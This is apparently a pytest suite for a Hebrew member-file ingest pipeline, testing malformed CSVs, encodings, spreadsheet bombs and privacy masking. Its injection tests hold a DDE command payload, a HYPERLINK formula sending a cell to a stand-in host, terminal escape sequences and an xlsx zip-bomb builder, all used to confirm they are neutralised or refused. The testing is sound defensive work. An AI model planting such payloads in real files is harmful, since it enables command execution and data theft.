"""Odd and hostile files (issue 17): each is read right or refused in one line, never swallows rows, never drives
the terminal. Every file here is small and made by the test."""

from __future__ import annotations

import datetime as dt
import json
import zipfile
from pathlib import Path

import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.errors import InputError, printable
from pipeline.ingest import read_member_file
from pipeline.mapping import HeaderMatcher
from pipeline.rawtable import RawTable
from pipeline.rules import Rules
from pipeline.runner import RunOptions, process
from pipeline.writing import write_outputs
from tests.conftest import write_xlsx_strings

HEADER = "מספר חבר,שם פרטי,שם משפחה,טלפון נייד,עיר\n"
HEBREW_HEADER = HEADER.strip().split(",")


def members(n: int, start: int = 1001) -> str:
    return "".join(f"{start + i},משה,כהן,05212{start + i:05d},חיפה\n" for i in range(n))


def read(path: Path, rules: Rules, **kw: object) -> RawTable:
    return read_member_file(path, score_header=HeaderMatcher(rules.columns).recognised, **kw)  # type: ignore[arg-type]


def check_only(path: Path, rules: Rules) -> object:
    return process(path, rules=rules, options=RunOptions(stop_after="quarantine"))


# ------------------------------------------------------------------------------------------------------ CSV


def test_unclosed_quote_costs_one_line_and_reading_goes_on(rules: Rules, tmp_path: Path) -> None:
    # line 12 opens a quote in the first name and never closes it: before, the rest of the file became one cell
    bad = '1011,"משה,כהן,0521201011,חיפה\n'
    path = tmp_path / "quote.csv"
    path.write_text(HEADER + members(10) + bad + members(40, start=1012), encoding="utf-8")
    result = check_only(path, rules)
    assert result.rows_in == 51 and result.accounted  # type: ignore[attr-defined]
    quarantine = result.quarantine  # type: ignore[attr-defined]
    assert quarantine.get_column("reason").to_list() == ["csv-unclosed-quote"]
    assert quarantine.get_column("source_row").to_list() == [12]
    assert quarantine.get_column("raw_line").to_list() == [bad.rstrip("\n")]
    kept = result.members  # type: ignore[attr-defined]
    row13 = kept.filter(pl.col("source_row") == 13)
    assert row13.get_column("member_id").to_list() == ["1012"]
    assert row13.get_column("phone_mobile").str.ends_with("1201012").to_list() == [True]
    assert kept.get_column("last_name").str.contains("052").sum() == 0  # no phone swallowed into a name


def test_a_quote_closed_inside_a_later_field_still_costs_one_line(rules: Rules, tmp_path: Path) -> None:
    # the open quote on line 4 runs on until the gershayim of ת"א on line 7 closes it: the record would overflow
    text = HEADER + members(2) + '1003,"רון,לוי,0521201003,חיפה\n' + members(2, 1004) + '1006,דן,כהן,0521201006,ת"א\n'
    path = tmp_path / "gershayim.csv"
    path.write_text(text + members(2, 1007), encoding="utf-8")
    raw = read(path, rules)
    assert raw.frame.get_column("source_row").to_list() == [2, 3, 4, 5, 6, 7, 8, 9]
    assert raw.frame.get_column("__raw_line").to_list()[2] == '1003,"רון,לוי,0521201003,חיפה'
    assert raw.frame.get_column("עיר").to_list()[5] == 'ת"א'


def test_unclosed_quote_on_the_last_line_is_quarantined(rules: Rules, tmp_path: Path) -> None:
    path = tmp_path / "last.csv"
    path.write_text(HEADER + members(5) + '1006,משה,"כהן,0521201006,חיפה\n', encoding="utf-8")
    raw = read(path, rules)
    assert raw.frame.get_column("__raw_line").to_list()[-1] == '1006,משה,"כהן,0521201006,חיפה'
    assert raw.height == 6


def test_a_quoted_newline_is_still_one_record(rules: Rules, tmp_path: Path) -> None:
    path = tmp_path / "newline.csv"
    path.write_text(HEADER + '1001,"משה\nדוד",כהן,0521201001,חיפה\n' + members(3, start=1002), encoding="utf-8")
    raw = read(path, rules)
    assert "__raw_line" not in raw.frame.columns
    assert raw.frame.get_column("שם פרטי").to_list() == ["משה\nדוד", "משה", "משה", "משה"]
    assert raw.frame.get_column("source_row").to_list() == [2, 4, 5, 6]


def test_old_mac_line_endings_are_read(rules: Rules, tmp_path: Path) -> None:
    path = tmp_path / "mac.csv"
    path.write_bytes((HEADER + members(4)).replace("\n", "\r").encode("cp1255"))
    raw = read(path, rules)
    assert raw.height == 4
    assert raw.frame.get_column("מספר חבר").to_list() == ["1001", "1002", "1003", "1004"]
    assert any("carriage return" in n for n in raw.source.notes)


@pytest.mark.parametrize("where", ["cell", "line"])
def test_lines_and_cells_over_python_csv_field_limit_are_read(rules: Rules, tmp_path: Path, where: str) -> None:
    long = "ש" * 140_000
    line = f'1001,"{long}",כהן,0521201001,חיפה\n' if where == "cell" else f"1001,{long},כהן,0521201001,חיפה\n"
    path = tmp_path / "long.csv"
    path.write_text(HEADER + line + members(3, start=1002), encoding="utf-8")
    raw = read(path, rules)
    assert raw.frame.get_column("שם פרטי").to_list()[0] == long
    assert raw.height == 4


def test_a_row_with_100000_extra_fields_is_quarantined_not_a_crash(rules: Rules, tmp_path: Path) -> None:
    path = tmp_path / "wide.csv"
    path.write_text(HEADER + members(3) + "1004,רון,לוי,0521201004,חיפה" + ",x" * 100_000 + "\n", encoding="utf-8")
    result = check_only(path, rules)
    quarantine = result.quarantine  # type: ignore[attr-defined]
    assert quarantine.get_column("reason").to_list() == ["csv-ragged-row"]
    assert result.accounted  # type: ignore[attr-defined]


def test_repeated_header_and_its_title_line_are_skipped_with_a_ledger_entry(rules: Rules, tmp_path: Path) -> None:
    # two exports pasted together: the second one's title line and header line are not members
    text = HEADER + members(3) + "דוח חברים - פברואר,,,,\n" + HEADER + members(3, start=2001)
    path = tmp_path / "pasted.csv"
    path.write_text(text, encoding="utf-8")
    result = check_only(path, rules)
    assert result.rows_in == 6 and result.accounted  # type: ignore[attr-defined]
    assert "מספר חבר" not in result.members.get_column("member_id").to_list()  # type: ignore[attr-defined]
    ledger = result.ledger.collect()  # type: ignore[attr-defined]
    skipped = ledger.filter(pl.col("check").cast(pl.String).is_in(["repeated-header-skipped", "title-row-skipped"]))
    assert skipped.select("source_row", pl.col("check").cast(pl.String)).rows() == [
        (5, "title-row-skipped"),
        (6, "repeated-header-skipped"),
    ]
    assert skipped.get_column("before").to_list()[0] == "דוח חברים - פברואר"


def test_repeated_header_in_a_sheet_is_skipped(rules: Rules, tmp_path: Path) -> None:
    rows = (
        [r.split(",") for r in members(2).splitlines()]
        + [HEBREW_HEADER]
        + [r.split(",") for r in members(2, 3001).splitlines()]
    )
    frame = pl.DataFrame(rows, schema=HEBREW_HEADER, orient="row")
    path = tmp_path / "pasted.xlsx"
    write_xlsx_strings(frame, path)
    raw = read(path, rules)
    assert raw.frame.get_column("source_row").to_list() == [2, 3, 5, 6]
    assert raw.skipped.get_column("check").to_list() == ["repeated-header-skipped"]


# ------------------------------------------------------------------------------------------------ encodings


def test_windows_1252_is_not_read_as_hebrew(rules: Rules, tmp_path: Path) -> None:
    text = (
        "member_id,first_name,last_name,mobile,city\n1,José,Pérez,0521234567,Tel Aviv\n2,Zoë,Müller,0527654321,Haifa\n"
    )
    path = tmp_path / "latin.csv"
    path.write_bytes(text.encode("cp1252"))
    raw = read(path, rules)
    assert raw.source.encoding == "cp1252"
    assert raw.frame.get_column("first_name").to_list() == ["José", "Zoë"]


def test_windows_1255_with_microsofts_0xCA_is_read(rules: Rules, tmp_path: Path) -> None:
    # U+05BA (holam haser for vav) is byte 0xCA in Microsoft's table; Python's cp1255 codec lacks it
    data = (
        HEADER.encode("cp1255") + "1001,".encode("cp1255") + b"\xe5\xca\xe3" + ",כהן,0521201001,חיפה\n".encode("cp1255")
    )
    path = tmp_path / "points.csv"
    path.write_bytes(data)
    raw = read(path, rules)
    assert raw.source.encoding == "cp1255"
    assert raw.frame.get_column("שם פרטי").to_list() == ["ו\u05baד"]


def test_windows_1255_with_some_utf8_lines_is_decoded_line_by_line(rules: Rules, tmp_path: Path) -> None:
    data = (
        (HEADER + members(3)).encode("cp1255")
        + "1004,שרה,לוי,0521201004,עכו\n".encode()
        + members(2, 1005).encode("cp1255")
    )
    path = tmp_path / "mixed.csv"
    path.write_bytes(data)
    raw = read(path, rules)
    assert raw.frame.get_column("שם פרטי").to_list() == ["משה", "משה", "משה", "שרה", "משה", "משה"]
    assert raw.source.encoding == "cp1255+utf-8"
    assert any("line 5" in n or "lines 5" in n for n in raw.source.notes)


def test_undecodable_bytes_are_refused_naming_the_line(rules: Rules, tmp_path: Path) -> None:
    # 0x81 is undefined in Windows-1255 and -1252, 0xFF in Windows-1255 and ISO-8859-8
    path = tmp_path / "bad.csv"
    path.write_bytes(HEADER.encode("cp1255") + members(2).encode("cp1255") + b"1003,\x81\xff,x,1,y\n")
    with pytest.raises(InputError, match="line 4 does not decode"):
        read(path, rules)


# ------------------------------------------------------------------------------------------- Excel, parquet


def test_one_space_far_below_the_data_makes_no_rows(rules: Rules, tmp_path: Path) -> None:
    import xlsxwriter

    path = tmp_path / "space.xlsx"
    wb = xlsxwriter.Workbook(str(path), {"constant_memory": True})
    ws = wb.add_worksheet("members")
    for c, h in enumerate(HEBREW_HEADER):
        ws.write_string(0, c, h)
    for r, row in enumerate(members(100).splitlines(), start=1):
        for c, v in enumerate(row.split(",")):
            ws.write_string(r, c, v)
    for r in range(101, 2101):  # empty-string cells below the data
        ws.write_string(r, 1, "")
    ws.write_string(1_048_575, 0, " ")  # one space in A1048576
    wb.close()
    result = check_only(path, rules)
    assert result.rows_in == 100  # type: ignore[attr-defined]
    assert result.quarantine.height == 0  # type: ignore[attr-defined]
    assert any("not read as members" in n for n in result.source.notes)  # type: ignore[attr-defined]


def test_empty_strings_below_parquet_data_make_no_rows(rules: Rules, tmp_path: Path) -> None:
    frame = pl.DataFrame({"מספר חבר": ["1", "2", "", " "], "טלפון נייד": ["0521234567", "0527654321", "", None]})
    path = tmp_path / "m.parquet"
    frame.write_parquet(path)
    assert read(path, rules).height == 2


def test_hidden_sheet_is_skipped_and_the_run_says_so(rules: Rules, tmp_path: Path) -> None:
    import xlsxwriter

    path = tmp_path / "hidden.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    secret, visible = wb.add_worksheet("old"), wb.add_worksheet("members")
    for ws, base in ((secret, 9001), (visible, 1001)):
        for c, h in enumerate(HEBREW_HEADER):
            ws.write_string(0, c, h)
        for r, row in enumerate(members(3, base).splitlines(), start=1):
            for c, v in enumerate(row.split(",")):
                ws.write_string(r, c, v)
    visible.activate()
    secret.hide()
    wb.close()
    raw = read(path, rules)
    assert raw.source.sheet == "members"
    assert raw.frame.get_column("מספר חבר").to_list() == ["1001", "1002", "1003"]
    assert any("hidden sheet(s) skipped: 'old'" in n for n in raw.source.notes)
    assert read(path, rules, sheet="old").frame.get_column("מספר חבר").to_list() == ["9001", "9002", "9003"]


def _bomb(path: Path, rows: int, columns: int, *, dimension: bool) -> None:
    """A sheet of ``rows`` x ``columns`` cells of one shared string, put straight into the zip of a one-cell
    workbook (a second and a few MB, where writing it cell by cell takes minutes)."""
    import xlsxwriter

    small = path.with_suffix(".small.xlsx")
    wb = xlsxwriter.Workbook(str(small))
    wb.add_worksheet("bomb").write_string(0, 0, "x")
    wb.close()
    last, n = "", columns
    while n:
        n, rem = divmod(n - 1, 26)
        last = chr(65 + rem) + last
    cells = '<c t="s"><v>0</v></c>' * columns
    body = "".join(f'<row r="{r}">{cells}</row>' for r in range(1, rows + 1))
    dim = f'<dimension ref="A1:{last}{rows}"/>' if dimension else ""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = f'<?xml version="1.0"?><worksheet xmlns="{main}">{dim}<sheetData>{body}</sheetData></worksheet>'
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = sheet.encode() if item.filename == "xl/worksheets/sheet1.xml" else src.read(item.filename)
            dst.writestr(item.filename, data)


@pytest.mark.parametrize(("rows", "columns"), [(300, 16_384), (200, 10_000)])
@pytest.mark.parametrize("dimension", [True, False])
def test_xlsx_bomb_is_refused_before_loading(
    rules: Rules, tmp_path: Path, rows: int, columns: int, dimension: bool
) -> None:
    path = tmp_path / "bomb.xlsx"
    _bomb(path, rows, columns, dimension=dimension)
    with pytest.raises(InputError, match="more than the 1,000 a member file may have"):
        read(path, rules)


def test_limits_come_from_the_caller(rules: Rules, tmp_path: Path) -> None:
    frame = pl.DataFrame([r.split(",") for r in members(3).splitlines()], schema=HEBREW_HEADER, orient="row")
    path = tmp_path / "small.xlsx"
    write_xlsx_strings(frame, path)  # 4 rows x 5 columns
    assert read(path, rules, max_cells=20, max_columns=5).height == 3
    with pytest.raises(InputError, match="20 cells, more than the 19"):
        read(path, rules, max_cells=19)
    with pytest.raises(InputError, match="5 columns, more than the 4"):
        read(path, rules, max_columns=4)


def test_parquet_time_and_duration_columns_are_read_as_text(rules: Rules, tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "מספר חבר": ["1", "2"],
            "שעת הצטרפות": [dt.time(9, 30), None],
            "ותק": [dt.timedelta(days=400, hours=2), dt.timedelta(0)],
        }
    )
    path = tmp_path / "typed.parquet"
    frame.write_parquet(path)
    raw = read(path, rules)
    assert raw.frame.get_column("שעת הצטרפות").to_list() == ["09:30:00", None]
    assert raw.frame.get_column("ותק").to_list() == ["P400DT2H", "PT0S"]


# ------------------------------------------------------------------------------------- injection, terminal


HOSTILE_HEADERS = ['=HYPERLINK("http://x.example/?"&A2,"click")', "+cmd|' /C calc'!A0"]


def test_formula_headers_are_neutralised_in_every_output(rules: Rules, tmp_path: Path) -> None:
    import csv

    header = HEADER.strip() + "," + ",".join(f'"{h.replace(chr(34), 2 * chr(34))}"' for h in HOSTILE_HEADERS) + "\n"
    body = "".join(line + ",a,b\n" for line in members(3).splitlines()) + ",,,,,,\n"  # an empty row: quarantine
    path = tmp_path / "inject.csv"
    path.write_text(header + body, encoding="utf-8")
    result = process(path, rules=rules)
    out = tmp_path / "out"
    write_outputs(result, out)
    for name in ("members_clean.csv", "quarantine.csv"):
        with (out / name).open(encoding="utf-8-sig", newline="") as fh:
            columns = next(csv.reader(fh))
        for hostile in HOSTILE_HEADERS:
            assert hostile not in columns
            assert "'" + hostile in columns
    xlsx_header = pl.read_excel(out / "members_clean.xlsx").columns
    assert "'" + HOSTILE_HEADERS[0] in xlsx_header and HOSTILE_HEADERS[0] not in xlsx_header


def test_headers_with_markup_and_escape_codes_print_as_text(tmp_path: Path) -> None:
    osc = "\x1b]0;pwned\x07"
    headers = ["מספר חבר", "טלפון נייד", "[/]", "[link=http://evil.example]click[/link]", f"{osc}\x1b[31mred"]
    lines = [",".join(f'"{h}"' for h in headers)] + [f"{1000 + i},05212{i:05d},a,b,c" for i in range(3)]
    path = tmp_path / "markup.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["run", str(path), "--out", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    assert "[/]" in result.output
    assert "[link=http://evil.example]click[/link]" in result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "red" in result.output


def test_errors_never_carry_escape_sequences(tmp_path: Path) -> None:
    error = InputError("bad \x1b]0;title\x07value \x1b[2J", path=tmp_path / "x\x1b[31m.csv")
    assert "\x1b" not in error.one_line() and "\x07" not in error.one_line()
    assert printable("a\x08b\x07c") == "abc"


def test_bel_and_backspace_are_removed_from_clean_names(rules: Rules, tmp_path: Path) -> None:
    path = tmp_path / "bell.csv"
    path.write_text(HEADER + "1001,מ\x07שה,כ\x08הן\x1b[31m,0521201001,חיפה\n", encoding="utf-8")
    result = check_only(path, rules)
    kept = result.members  # type: ignore[attr-defined]
    assert kept.get_column("first_name").to_list() == ["משה"]
    assert kept.get_column("last_name").to_list() == ["כהן"]
    codes = result.ledger.collect().get_column("check").cast(pl.String).to_list()  # type: ignore[attr-defined]
    assert codes.count("control-chars-removed") == 2


# ------------------------------------------------------------------------------------------------- privacy


def test_personal_data_in_the_wrong_column_is_masked_in_report_examples(rules: Rules, tmp_path: Path) -> None:
    path = tmp_path / "misplaced.csv"
    path.write_text(
        "מספר חבר,שם פרטי,שם משפחה,טלפון נייד,עיר\n"
        "1001,0541239876,כהן,0521201001,חיפה\n"
        "1002,רון,012345674,0521201002,חיפה\n"
        "1003,דנה,לוי,0521201003,dana.levi@gmail.com\n",
        encoding="utf-8",
    )
    result = process(path, rules=rules, options=RunOptions(reference_date=dt.date(2025, 1, 1)))
    out = tmp_path / "out"
    _, report = write_outputs(result, out)
    shown = json.dumps(report["checks"], ensure_ascii=False) + (out / "report.html").read_text(encoding="utf-8")
    for secret in ("0541239876", "012345674", "dana.levi@gmail.com"):
        assert secret not in shown
    assert "054-***-9876" in shown and "d***@gmail.com" in shown
    _, unmasked = write_outputs(result, tmp_path / "out2", options=RunOptions(show_pii=True))
    assert "dana.levi@gmail.com" in json.dumps(unmasked["checks"], ensure_ascii=False)


def test_a_file_without_a_header_row_is_refused_without_quoting_the_member(rules: Rules, tmp_path: Path) -> None:
    path = tmp_path / "noheader.csv"
    path.write_text("1001x,0521201001,012345674,moshe.cohen@gmail.com\n1002x,0521201002,,\n", encoding="utf-8")
    with pytest.raises(InputError) as caught:
        process(path, rules=rules)
    message = caught.value.one_line()
    for secret in ("0521201001", "012345674", "moshe.cohen@gmail.com"):
        assert secret not in message


# --------------------------------------------------------------------------------------------- property test


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    cells=st.lists(
        st.lists(
            st.sampled_from(["1001", "משה", '"', 'a"b', '"x', "052-1234567", "", ' "q" ', 'ת"א']),
            min_size=1,
            max_size=7,
        ),
        min_size=1,
        max_size=12,
    )
)
def test_random_quotes_never_lose_a_row(rules: Rules, tmp_path: Path, cells: list[list[str]]) -> None:
    # every line after the header is a member or a quarantined row, whatever its quotes do
    lines = [
        ",".join(f"{1000 + i}" if j == 0 and c == "1001" else c for j, c in enumerate(row))
        for i, row in enumerate(cells)
    ]
    path = tmp_path / "random.csv"
    path.write_text(HEADER + "\n".join(lines) + "\n", encoding="utf-8")
    try:
        result = check_only(path, rules)
    except InputError as exc:  # a refusal is allowed, a crash is not
        assert "no member rows" in exc.message or "identifying" in exc.message
        return
    assert result.accounted  # type: ignore[attr-defined]
